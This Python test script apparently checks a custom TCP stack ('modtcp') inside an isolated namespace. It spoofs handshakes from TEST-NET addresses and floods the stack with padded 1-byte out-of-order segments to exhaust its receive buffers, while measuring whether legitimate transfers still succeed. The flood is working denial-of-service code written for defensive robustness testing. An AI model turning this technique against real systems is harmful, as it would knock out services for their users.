"""Tiny-segment flood from the kernel side of the test namespace, with legitimate transfers meanwhile.

usage: tinyflood.py DEV DST PORT CONNS SEGMENTS SECONDS CLIENTS BYTES

Attack (issue 11, attack 1): CONNS connections to DST:PORT, each from its own address in 198.51.100.0/24 (TEST-NET-2,
inside the test namespace only; the kernel owns none of them, so it sends no RST, and it does not forward, so
nothing leaves the namespace). The handshake is done by hand through an AF_PACKET socket on the TUN device DEV:
frames written to it go straight to modtcp's side of the device, and modtcp's answers (routed to the kernel, which
drops them) are read from it before the kernel's IP layer. The SYN offers MSS 1460 and window scale 7, so modtcp
advertises its whole receive buffer. Then, round-robin over the connections, up to SEGMENTS segments per connection
within SECONDS: each carries 1 payload byte at RCV.NXT + 1 + 2k (k = 0, 1, ...; the byte at RCV.NXT is never sent,
so nothing is ever in order) in a 1,500-byte frame: IP total length 41 (20 + 20 + 1) followed by 1,459 bytes of
padding, as a link's trailer. The receiver's packet buffer is the frame (1,500 bytes) while the segment is 1 byte.
At the end each connection is reset (RST at RCV.NXT, acceptable per RFC 5961 §3).

Meanwhile CLIENTS threads connect through the kernel's own TCP, send BYTES random bytes, shut down their output and
expect the SHA-256 of what they sent back (32 bytes); at least 3 transfers each and on until the flood ends.

Prints "half" when half the flood is sent, then one JSON line:
{"conns": n, "segments": n, "flood_seconds": s, "tried": n, "ok": n, "errors": {kind: n}}.
"""
import hashlib
import json
import os
import random
import socket
import struct
import sys
import threading
import time

dev, dst, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
conns, segments, seconds = int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6])
clients, nbytes = int(sys.argv[7]), int(sys.argv[8])
dst_b = socket.inet_aton(dst)
ETH_P_IP = 0x0800
FRAME = 1500
ACK, RST, SYN = 0x10, 0x04, 0x02


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return (~s) & 0xFFFF


def packet(src_b, sport, seq, ack, flags, payload=b"", opts=b"", pad_to=0):
    tcp = struct.pack("!HHIIBBHHH", sport, port, seq, ack, (5 + len(opts) // 4) << 4, flags, 65535, 0, 0) + opts
    tcp += payload
    c = csum(src_b + dst_b + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, src_b, dst_b)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    frame = ip + tcp
    if pad_to > len(frame):
        frame += b"\0" * (pad_to - len(frame))  # after the IP packet: not part of the TCP segment
    return frame


tx = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
rx = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
rx.bind((dev, ETH_P_IP))
rx.settimeout(0.2)


def send(frame):
    while True:
        try:
            tx.sendto(frame, (dev, ETH_P_IP))
            return True
        except OSError:
            time.sleep(0.0005)  # device queue full


def handshake(i, rnd):
    src_b = bytes([198, 51, 100, 10 + i])
    sport = 40000 + i
    isn = rnd.getrandbits(32)
    opts = struct.pack("!BBHBBBB", 2, 4, 1460, 1, 3, 3, 7)  # MSS 1460, NOP, window scale 7
    for _ in range(5):
        send(packet(src_b, sport, isn, 0, SYN, opts=opts))
        deadline = time.monotonic() + 1.0
        while time.monotonic() < deadline:
            try:
                p = rx.recv(2048)
            except socket.timeout:
                continue
            if len(p) < 40 or p[9] != 6 or p[16:20] != src_b:
                continue
            ihl = (p[0] & 0xF) * 4
            sp, dp, seq, ack, _, flags = struct.unpack("!HHIIBB", p[ihl:ihl + 14])
            if sp == port and dp == sport and flags & (SYN | ACK) == SYN | ACK and ack == (isn + 1) & 0xFFFFFFFF:
                iss = seq
                send(packet(src_b, sport, (isn + 1) & 0xFFFFFFFF, (iss + 1) & 0xFFFFFFFF, ACK))
                return (src_b, sport, (isn + 1) & 0xFFFFFFFF, (iss + 1) & 0xFFFFFFFF)
    raise SystemExit("no SYN-ACK for connection %d" % i)


rnd = random.Random(20261202)
attack = [handshake(i, rnd) for i in range(conns)]
rx.close()  # modtcp's duplicate ACKs from now on are the kernel's to drop

state = {"done": False, "tried": 0, "ok": 0, "errors": {}}
lock = threading.Lock()


def client():
    data = os.urandom(nbytes)
    want = hashlib.sha256(data).digest()
    n = 0
    while n < 3 or not state["done"]:
        n += 1
        try:
            with socket.create_connection((dst, port), timeout=20) as c:
                c.settimeout(20)
                c.sendall(data)
                c.shutdown(socket.SHUT_WR)
                got = b""
                while len(got) < 32:
                    chunk = c.recv(64)
                    if not chunk:
                        break
                    got += chunk
            kind = None if got == want else "bad digest"
        except OSError as e:
            kind = type(e).__name__
        with lock:
            state["tried"] += 1
            if kind is None:
                state["ok"] += 1
            else:
                state["errors"][kind] = state["errors"].get(kind, 0) + 1


threads = [threading.Thread(target=client, daemon=True) for _ in range(clients)]
for t in threads:
    t.start()

sent = 0
total = conns * segments
start = time.monotonic()
half = False
for k in range(segments):
    if time.monotonic() - start > seconds:
        break
    for src_b, sport, seq, ack in attack:
        send(packet(src_b, sport, (seq + 1 + 2 * k) & 0xFFFFFFFF, ack, ACK, payload=b"x", pad_to=FRAME))
        sent += 1
    if not half and sent * 2 >= total:
        half = True
        print("half", flush=True)
    # pace: the whole flood over about SECONDS
    delay = start + seconds * sent / total - time.monotonic()
    if delay > 0:
        time.sleep(delay)
elapsed = time.monotonic() - start
if not half:
    print("half", flush=True)
state["done"] = True
for t in threads:
    t.join()
for src_b, sport, seq, ack in attack:
    send(packet(src_b, sport, seq, 0, RST))
tx.close()
result = {"conns": len(attack), "segments": sent, "flood_seconds": round(elapsed, 2)}
result.update(tried=state["tried"], ok=state["ok"], errors=state["errors"])
print(json.dumps(result), flush=True)
